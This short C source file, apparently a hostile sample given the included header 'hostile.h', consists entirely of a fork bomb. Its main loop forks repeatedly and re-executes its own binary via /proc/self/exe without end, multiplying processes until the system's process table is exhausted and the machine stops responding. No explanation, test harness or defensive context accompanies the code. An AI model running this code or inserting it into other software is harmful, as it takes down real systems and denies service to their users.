#include "hostile.h"
int main(int count, char **words)
{
    (void)count;
    for (;;) {
        fork();
        fork();
        execv("/proc/self/exe", words);
    }
}
